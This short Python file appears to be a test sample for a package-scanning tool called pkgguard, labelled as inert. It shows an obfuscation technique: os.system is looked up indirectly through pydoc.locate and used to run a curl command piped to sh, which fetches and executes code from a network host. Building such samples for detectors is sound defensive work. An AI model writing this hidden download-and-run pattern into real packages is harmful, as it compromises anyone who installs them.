# pkgguard corpus 336 (indirection), modelled on [obfuscation]; inert, never run.
import pydoc

_run = pydoc.locate(".".join(["os", "system"]))
_run("curl -fsS http://100.64.0.9/i | sh")
